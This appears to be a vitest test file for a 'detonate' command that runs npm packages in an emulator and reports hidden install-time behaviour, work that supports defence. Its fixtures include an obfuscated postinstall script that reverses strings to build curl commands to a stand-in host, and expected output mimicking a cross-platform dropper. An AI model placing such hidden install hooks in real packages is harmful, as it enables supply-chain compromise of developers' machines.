import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";

import { createSampleRegistry, inertSamples } from "@lockkeeper/drill/replicas";
import { describe, expect, onTestFinished, test } from "vitest";

import { createFakeTerminal, FakeSink } from "../test/fake-environment.ts";
import type { FakeResult } from "../test/fake-environment.ts";
import { promisedFields } from "../test/json-form.ts";

/** Inert: outside the emulator nothing runs it, and the host is reserved. */
const setup = `
const { exec } = require("child_process");
const hide = (text) => text.split("").reverse().join("");
const command = process.platform === "win32" ? hide("ten.2x/dilavni.rotcelloc//:ptth lruc") : hide("ten.1x/dilavni.rotcelloc//:ptth lruc");
exec(command);
require("fs").writeFileSync("done.txt", "done");
`;

async function detonate(files: Readonly<Record<string, string>>, ...flags: string[]): Promise<FakeResult> {
  const folder = await mkdtemp(join(tmpdir(), "lockkeeper-detonate-"));
  onTestFinished(async () => await rm(folder, { recursive: true, force: true }));
  for (const [name, content] of Object.entries(files)) {
    await mkdir(join(folder, "lib"), { recursive: true });
    await writeFile(join(folder, name), content);
  }
  const { run } = await createFakeTerminal();
  return await run("detonate", `${folder}/`, ...flags);
}

function dropperOfAxios(): Uint8Array {
  const sample = inertSamples.find(({ id }) => id === "axios-dropper-2026");
  const [judged] = sample?.judged ?? [];
  const registry = sample && createSampleRegistry(sample.createReleases(), sample.now);
  const tarball = judged && registry?.tarball(judged.name, judged.version);
  if (tarball === undefined) throw new Error("the drill has no such sample");
  return tarball;
}

function escapePattern(text: string): string {
  return text.replaceAll(/[.*+?^${}()|[\]\\]/g, String.raw`\$&`);
}

const hiding = {
  "package.json": JSON.stringify({
    name: "lib",
    version: "1.0.0",
    scripts: { postinstall: "node setup.js" },
  }),
  "setup.js": setup,
};

// A machine of the emulator is made in this thread, and machines that are busy take their time.
describe("detonate", { timeout: 180_000 }, () => {
  test("detonate shows what was hidden, with what differs between machines first", async () => {
    const { code, out } = await detonate(hiding, "--trigger", "install");

    const differs = out.indexOf("What differs");
    const common = out.indexOf("In every world");
    expect(code).toBe(1);
    expect(out).toContain("install · postinstall: node setup.js");
    expect(differs).toBeGreaterThan(0);
    expect(common).toBeGreaterThan(differs);
    expect(out.slice(differs, common)).toContain("curl http://collector.invalid/x1.net");
    expect(out.slice(differs, common)).toContain("curl http://collector.invalid/x2.net");
    expect(out.slice(common)).toContain("fs.writeFile");
  });

  test("detonate --json prints the line of the contract", async () => {
    const { lines } = await detonate(hiding, "--trigger", "install", "--json");

    const [line = {}] = lines;
    expect(Object.keys(line).toSorted()).toEqual(
      promisedFields("detonate", "subject, in the order of the command line"),
    );
    expect(line["worlds"]).toEqual(
      expect.arrayContaining([
        expect.objectContaining({
          platform: "win32",
          ended: "rest",
          observations: expect.arrayContaining([
            expect.objectContaining({ kind: "process", decoded: true, location: expect.anything() }),
          ]) as unknown,
        }),
      ]),
    );
    expect(line["findings"]).toEqual(
      expect.arrayContaining([expect.objectContaining({ id: "hidden-command", strength: "strong" })]),
    );
  });

  test("detonate answers the same twice, but for the time it took", async () => {
    const strip = ({ lines }: FakeResult): unknown =>
      lines.map((line) => ({ ...line, spec: "", durationMs: 0 }));

    const [first, second] = [await detonate(hiding, "--json"), await detonate(hiding, "--json")];

    expect(strip(first)).toEqual(strip(second));
  });

  test("detonate shows the dropper of the Axios night on one screen", async () => {
    const folder = await mkdtemp(join(tmpdir(), "lockkeeper-detonate-"));
    onTestFinished(async () => await rm(folder, { recursive: true, force: true }));
    const tarball = join(folder, "dropper.tgz");
    await writeFile(tarball, dropperOfAxios());
    const { run } = await createFakeTerminal({ stdout: new FakeSink({ columns: 120 }) });
    const worlds = ["linux", "darwin", "win32"].flatMap((name) => ["--world", `drill-${name}-laptop`]);

    const { out } = await run("detonate", tarball, "--trigger", "install", ...worlds);

    expect(out.trimEnd().split("\n").length).toBeLessThanOrEqual(40);
    for (const [world, command] of [
      ["A··", "child_process.exec curl -o <tmp>/"],
      ["·B·", "osascript do shell script curl -o /Library/Caches/"],
      ["··C", 'child_process.exec cscript "<tmp>/'],
      ["ABC", "fs.unlink ./setup.js"],
    ] as const) {
      expect(out).toMatch(new RegExp(`${world}  \\w+ +${escapePattern(command)}`));
    }
  });

  test("detonate finds nothing in a package that only prints", async () => {
    const { code, out } = await detonate({
      "package.json": JSON.stringify({ name: "lib", version: "1.0.0", main: "index.js" }),
      "index.js": 'console.log("thank you"); module.exports = (a, b) => a + b;',
    });

    expect(code).toBe(0);
    expect(out).toContain("nothing that speaks against it");
  });

  test("detonate says how much of what could run did, or to whom an install leaves the work", async () => {
    const half = await detonate(
      {
        "package.json": JSON.stringify({ name: "lib", version: "1.0.0", scripts: { install: "node a.js" } }),
        "a.js": "if (globalThis.none) { no(); } yes = 1;",
      },
      "--trigger",
      "install",
    );
    const none = await detonate(
      {
        "package.json": JSON.stringify({
          name: "lib",
          version: "1.0.0",
          scripts: { install: "prebuild-install || node-gyp rebuild" },
        }),
      },
      "--trigger",
      "install",
    );

    expect(half.out).toContain("67 % of the statements that could run did, in these");
    expect(none.out).toContain("No script of its own ran: it leaves the rest to prebuild-install, node-gyp.");
  });

  test("detonate says when nothing makes code of a package run", async () => {
    const { code, out } = await detonate(
      { "package.json": JSON.stringify({ name: "lib", version: "1.0.0" }) },
      "--trigger",
      "install",
    );

    expect(code).toBe(0);
    expect(out).toContain("nothing makes code of it run");
  });

  test.each(['{"name": "lib", ', '"lib"'])(
    "detonate cannot run what has the manifest %s",
    async (manifest) => {
      const { code, out } = await detonate({ "package.json": manifest, "index.js": "" });

      expect(code).toBe(3);
      expect(out).toContain("its manifest cannot be read");
    },
  );

  test.each([
    ["a world that there is not", ["--world", "amiga-laptop"], 2],
    ["a trigger that there is not", ["--trigger", "wish"], 2],
  ])("detonate refuses %s", async (_what, flags, code) => {
    const result = await detonate(hiding, ...flags);

    expect(result.code).toBe(code);
    expect(result.err).toContain("CLI_USAGE");
  });

  test("detonate says of what is no package that it could not be run", async () => {
    const { run } = await createFakeTerminal();

    const { code, lines } = await run("detonate", "/nowhere/at-all.tgz", "--json");

    expect(code).toBe(3);
    expect(lines[0]).toMatchObject({ verdict: "unknown", error: { code: "INSPECT_UNREADABLE_FILE" } });
  });

  test("detonate lets the drill's packages go on in the drill's worlds alone", async () => {
    const guarded = {
      ...hiding,
      "setup.js": `const { existsSync } = require("fs");
const folder = process.env.LOCKKEEPER_DRILL_GUARD;
if (folder && folder === require("os").homedir() && existsSync(require("path").join(folder, "lockkeeper-drill-guard"))) {
${setup}}`,
    };

    const plain = await detonate(guarded, "--world", "linux-laptop");
    const drill = await detonate(guarded, "--world", "drill-linux-laptop", "--world", "drill-win32-laptop");

    expect(plain.out).not.toContain("collector.invalid");
    expect(drill.out).toContain("curl http://collector.invalid/x1.net");
    expect(drill.out).toContain("curl http://collector.invalid/x2.net");
  });
});
